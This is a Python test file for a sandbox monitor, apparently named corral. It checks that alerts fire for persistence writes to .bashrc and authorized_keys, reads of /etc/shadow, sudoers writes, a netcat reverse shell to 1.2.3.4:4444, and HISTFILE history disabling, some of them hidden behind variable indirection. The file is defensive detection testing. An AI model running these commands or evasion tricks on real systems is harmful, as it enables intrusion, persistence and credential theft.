"""Events for what commands *do* in the WebAssembly tier, seen by the default monitor in
live sandboxes: the shell's file notices, the Python guest's intents, and an eval that
measures what the live sandbox catches."""

from __future__ import annotations

import random

import pytest

import corral
from corral.events import EventBus
from corral.monitor.evaluate import command_events, default_corpus, load_corpus
from corral.wasm.shellproc import file_notice

from .helpers import feed_all, rules_of


def _alerts(script: str, *, python: bool = False) -> set[str]:
    with corral.Sandbox(monitor=True) as sb:
        if python:
            sb.python(script)
        else:
            sb.run(script)
        return {a.rule for a in sb.alerts}


# Indirection (variables) so no line rule can see the file names: only the file events do


def test_bashrc_payload_append_raises_persistence() -> None:
    got = _alerts("b=.bash; echo 'payload' >> /workspace/${b}rc")
    assert "persist-shell-rc-write" in got


def test_authorized_keys_append_raises_persistence() -> None:
    got = _alerts("mkdir -p ~/.ssh; k=authorized; echo key >> ~/.ssh/${k}_keys")
    assert "persist-authorized-keys" in got


def test_refused_shadow_read_raises_credential_access() -> None:
    got = _alerts("f=/etc/sha; cat ${f}dow")
    assert got & {"cred-shadow", "cred-credential-file-access"}


def test_refused_sudoers_write_is_reported() -> None:
    bus = EventBus()
    seen: list[corral.events.Event] = []
    bus.subscribe(seen.append)
    with corral.Sandbox(bus=bus) as sb:
        sb.run("p=/etc/sud; echo x >> ${p}oers")
    files = [e for e in seen if e.action is not None and e.action.kind == "file"]
    assert [(e.action.op, e.action.path, (e.outcome or {}).get("refused")) for e in files] == [
        ("write", "/etc/sudoers", True)
    ]


def test_cat_in_a_loop_is_one_notice() -> None:
    bus = EventBus()
    seen: list[corral.events.Event] = []
    bus.subscribe(seen.append)
    with corral.Sandbox(bus=bus) as sb:
        sb.run("echo a > f; for i in $(seq 300); do cat f; done > /dev/null")
    reads = [e for e in seen if e.action is not None and e.action.kind == "file"
             and e.action.op == "read"]  # fmt: skip
    assert len(reads) == 1


def test_os_system_from_shell_python_raises_alert() -> None:
    # the command is pasted together in Python, so only the guest's intent shows it whole
    script = """c='import os; os.system("n"+"c -e /bin/sh 1.2.3.4 "+"4444")'; python3 -c "$c" """
    got = _alerts(script)
    assert "tunnel-netcat-exec" in got


def test_subprocess_in_python_raises_alert() -> None:
    got = _alerts("import subprocess\nsubprocess.run(['curl', 'http://x'])", python=True)
    assert "exec-guest-process-attempt" in got


def test_histfile_quoted_is_caught_live() -> None:
    assert "evasion-disable-history" in _alerts('export HISTFILE="/dev/null"')


@pytest.mark.parametrize(
    "notice",
    [
        {"file_op": "rm", "path": "/workspace/x"},
        {"file_op": "read", "path": "/etc/passwd"},  # outside, not marked refused
        {"file_op": "read", "path": "/workspace/../etc/passwd", "refused": True},
        {"file_op": "read", "path": "/workspace/" + "a" * 5000},
        {"file_op": "read", "path": ["/workspace/x"]},
        {"file_op": "read", "path": "/workspace/x", "refused": "yes"},
    ],
)
def test_forged_file_notices_are_dropped(notice: dict[str, object]) -> None:
    assert file_notice(notice) is None


def test_unparseable_script_is_not_detected() -> None:
    assert command_events("nc -e /bin/sh 1.2.3.4 4444 ((", "s") == []


def test_eval_and_live_agree_on_a_corpus_sample() -> None:
    items = [i for i in load_corpus(default_corpus()) if i.command is not None]
    sample = random.Random(12).sample(items, 12)
    for item in sample:
        assert item.command is not None
        evaluated = rules_of(
            feed_all(corral.monitor.Monitor(baseline=False), command_events(item.command, "e"))
        )
        bus = EventBus()
        m = corral.monitor.Monitor(baseline=False)
        m.attach(bus)
        with corral.Sandbox(bus=bus) as sb:
            sb.run(item.command, timeout=5)
        live = {a.rule for a in m.alerts()}
        assert evaluated <= live, (item.command, evaluated, live)
